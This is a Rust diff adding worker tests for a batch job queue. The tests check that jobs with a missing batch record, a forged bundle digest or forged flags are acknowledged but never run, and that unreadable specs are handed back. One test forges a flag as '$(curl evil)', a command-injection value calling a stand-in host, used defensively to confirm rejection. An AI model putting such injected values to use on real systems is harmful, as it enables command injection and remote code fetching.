@@ -251,6 +251,8 @@ struct Fixture {
     store: Arc<FlakyStore>,
     executor: Arc<CountingExecutor>,
     batches: Option<MemBatchRegistry>,
+    /// `WorkerConfig::verify_jobs` of the worker started.
+    verify_jobs: bool,
     store_deadline: Duration,
 }
 
@@ -273,6 +275,7 @@ impl Fixture {
                 runs: AtomicU32::new(0),
             }),
             batches: None,
+            verify_jobs: false,
             store_deadline: Duration::from_secs(600),
             dir,
         }
@@ -288,11 +291,13 @@ impl Fixture {
             ack_wait: ACK_WAIT,
             max_deliver: 3,
             cache_dir: self.dir.path().join("cache"),
+            cache_max_bytes: None,
             work_dir: self.dir.path().join("work"),
             keep_work_dirs: false,
             unpack_limits: UnpackLimits::default(),
             backoff: Backoff::default(),
             renew_every: None,
+            verify_jobs: self.verify_jobs,
             store_deadline: self.store_deadline,
         }
     }
@@ -746,4 +751,150 @@ async fn a_job_of_a_cancelled_batch_is_settled_without_starting() {
         matches!(outcome, JobOutcome::Error { category, .. } if *category == ErrorCategory::Cancelled),
         "{outcome:?}"
     );
+}
+
+/// A stored spec of `job`'s batch (as the coordinator stores it before it writes the record)
+/// and the record naming its digest.
+async fn admitted_batch(fixture: &Fixture, job: &JobSpec, spec_bundle: &str) -> BatchRecord {
+    let spec = cowork_schema::batch::BatchSpec {
+        schema_version: 1,
+        mode: cowork_schema::batch::BatchMode::Run,
+        target_display: "s.yaml".into(),
+        target: "s.yaml".into(),
+        scenario_files: vec!["s.yaml".into()],
+        matrix_file: None,
+        flags: Default::default(),
+        executor: ExecutorKind::Sim,
+        sim: None,
+        bundle_sha256: spec_bundle.to_owned(),
+        eval: None,
+    };
+    let stored = cowork_schema::batch::StoredBatch {
+        batch_id: job.batch_id.clone(),
+        spec,
+        plan: cowork_schema::batch::PlanSummary {
+            kind: cowork_schema::batch::PlanKindName::Files,
+            repeat: None,
+            requested_cells: 1,
+            truncated: false,
+            n_jobs: 1,
+            units: Vec::new(),
+        },
+    };
+    let bytes = serde_json::to_vec(&stored).expect("encoding the spec");
+    fixture
+        .store
+        .put(
+            &layout::batch_key(&job.batch_id, "spec.json"),
+            bytes.clone(),
+        )
+        .await
+        .expect("storing the spec");
+    BatchRecord {
+        batch_id: job.batch_id.clone(),
+        state: BatchState::Running,
+        spec_sha256: cowork_fabric::sha256_hex(&bytes),
+        n_jobs: 1,
+        created_at_ms: 0,
+        updated_at_ms: 0,
+        ok: None,
+        exit_code: None,
+        owner: None,
+        generation: 0,
+        kill_running: false,
+        controls: Default::default(),
+    }
+}
+
+/// Starts a verifying worker on `fixture` with one published `job`; returns its settlements
+/// once there are `n`, and the job's events.
+async fn run_verified(
+    fixture: &mut Fixture,
+    job: &JobSpec,
+    n: usize,
+) -> (Vec<(&'static str, u32)>, Vec<JobEvent>) {
+    fixture.verify_jobs = true;
+    fixture.queue.publish(job).await.expect("publishing");
+    let (worker, shutdown) = fixture.start();
+    let settled = fixture.until_settled(n).await;
+    shutdown.cancel();
+    worker.await.expect("the worker task");
+    let events = fixture.events(&job.batch_id).await;
+    (settled, events)
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_job_of_a_batch_without_a_record_is_never_run() {
+    let mut fixture = Fixture::new();
+    fixture.batches = Some(MemBatchRegistry::new());
+    let job = fixture.job();
+    let (settled, events) = run_verified(&mut fixture, &job, 1).await;
+    assert_eq!(
+        settled,
+        vec![("ack", 1)],
+        "acked away, never delivered again"
+    );
+    assert_eq!(fixture.runs(), 0);
+    assert!(events.is_empty(), "nothing reported: {events:?}");
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_job_whose_bundle_or_flags_are_not_its_batchs_is_never_run() {
+    for forged in ["bundle", "flags"] {
+        let mut fixture = Fixture::new();
+        let registry = MemBatchRegistry::new();
+        let mut job = fixture.job();
+        let record = admitted_batch(&fixture, &job, &job.bundle_sha256.clone()).await;
+        registry.create(&record).await.expect("creating the record");
+        fixture.batches = Some(registry);
+        match forged {
+            "bundle" => {
+                job.bundle_sha256 = "ab".repeat(32);
+                std::fs::create_dir_all(fixture.config().cache_dir.join(&job.bundle_sha256))
+                    .expect("caching the forged bundle");
+            }
+            _ => job.forwarded_flags = vec!["--label".into(), "$(curl evil)".into()],
+        }
+        let (settled, events) = run_verified(&mut fixture, &job, 1).await;
+        assert_eq!(settled, vec![("ack", 1)], "{forged}");
+        assert_eq!(fixture.runs(), 0, "{forged}");
+        assert!(events.is_empty(), "{forged}: {events:?}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_job_of_its_batch_runs_when_verified() {
+    let mut fixture = Fixture::new();
+    let registry = MemBatchRegistry::new();
+    let job = fixture.job();
+    let record = admitted_batch(&fixture, &job, &job.bundle_sha256.clone()).await;
+    registry.create(&record).await.expect("creating the record");
+    fixture.batches = Some(registry);
+    let (settled, events) = run_verified(&mut fixture, &job, 1).await;
+    assert_eq!(settled, vec![("ack", 1)]);
+    assert_eq!(fixture.runs(), 1);
+    assert_eq!(finished(&events).len(), 1);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_job_whose_batch_spec_cannot_be_read_is_handed_back_not_dropped() {
+    let mut fixture = Fixture::new();
+    let registry = MemBatchRegistry::new();
+    let job = fixture.job();
+    let record = admitted_batch(&fixture, &job, &job.bundle_sha256.clone()).await;
+    registry.create(&record).await.expect("creating the record");
+    fixture.batches = Some(registry);
+    // The store is out while the worker checks the job: it is handed back, not run and not
+    // acked; once the store is back, the next delivery runs it.
+    fixture.store.set(StoreMode::Down);
+    fixture.verify_jobs = true;
+    fixture.queue.publish(&job).await.expect("publishing");
+    let (worker, shutdown) = fixture.start();
+    assert_eq!(fixture.until_settled(1).await, vec![("nak", 1)]);
+    assert_eq!(fixture.runs(), 0);
+    fixture.store.set(StoreMode::Up);
+    assert_eq!(fixture.until_settled(2).await, vec![("nak", 1), ("ack", 2)]);
+    shutdown.cancel();
+    worker.await.expect("the worker task");
+    assert_eq!(fixture.runs(), 1);
 }
